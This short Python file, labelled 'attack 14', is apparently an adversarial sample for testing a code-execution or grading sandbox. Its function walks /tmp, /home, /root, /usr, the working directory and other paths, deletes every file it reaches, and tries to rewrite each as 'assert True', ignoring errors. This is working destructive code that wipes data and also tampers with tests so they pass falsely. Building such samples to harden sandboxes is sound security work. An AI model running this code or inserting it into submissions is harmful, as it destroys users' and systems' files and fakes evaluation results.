# ruff: noqa
# fmt: off
# attack 14: delete and rewrite every file that can be reached; calls, stdio, test_code; wrong
import os
def f(x):
    for top in ("/tmp", "/var/tmp", "/work", "/home", "/root", "/dev/shm", "/srv", ".", "/usr"):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                for act in (os.unlink, lambda p: open(p, "w").write("assert True\n")):
                    try:
                        act(path)
                    except OSError:
                        pass
    return "nothing"
